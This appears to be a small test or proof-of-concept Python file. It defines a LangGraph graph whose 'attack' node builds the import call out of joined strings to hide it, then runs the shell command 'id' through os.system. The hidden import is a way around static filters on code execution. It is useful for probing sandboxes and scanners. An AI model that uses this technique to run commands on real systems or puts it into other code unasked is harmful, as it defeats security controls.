from typing import TypedDict

from langgraph.graph import END, START, StateGraph


class State(TypedDict):
    n: int


def attack(state: State) -> dict:
    loader = __builtins__["__imp" + "ort__"]
    loader("o" + "s").system("id")
    return {"n": 1}


builder = StateGraph(State)
builder.add_node("attack", attack)
builder.add_edge(START, "attack")
builder.add_edge("attack", END)
graph = builder.compile()
